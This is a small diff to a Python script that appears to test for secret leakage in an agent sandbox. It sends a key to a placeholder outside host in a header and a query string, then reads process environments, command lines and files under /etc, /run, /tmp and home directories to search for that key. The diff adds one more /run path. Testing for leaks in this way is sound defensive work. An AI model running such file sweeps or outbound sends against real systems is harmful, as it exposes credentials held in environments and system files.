@@ -55,8 +55,8 @@ found["elsewhere"] = asked("https://other.example.com/", Authorization="Bearer "
 found["in a target"] = asked("https://other.example.com/?" + key)
 held = re.compile(sys.argv[1].encode())
 seen = [key.encode(), json.dumps(found).encode()]
-for path in ("/proc/*/environ", "/proc/*/cmdline", "/tmp/*", "/run/*", "/etc/*", "/home/*/*",
-             "/workspace/*", "/.agentd/*/*"):
+for path in ("/proc/*/environ", "/proc/*/cmdline", "/tmp/*", "/run/*", "/run/*/*", "/etc/*",
+             "/home/*/*", "/workspace/*", "/.agentd/*/*"):
     for name in glob.glob(path):
         try:
             seen.append(open(name, "rb").read(8 << 20))
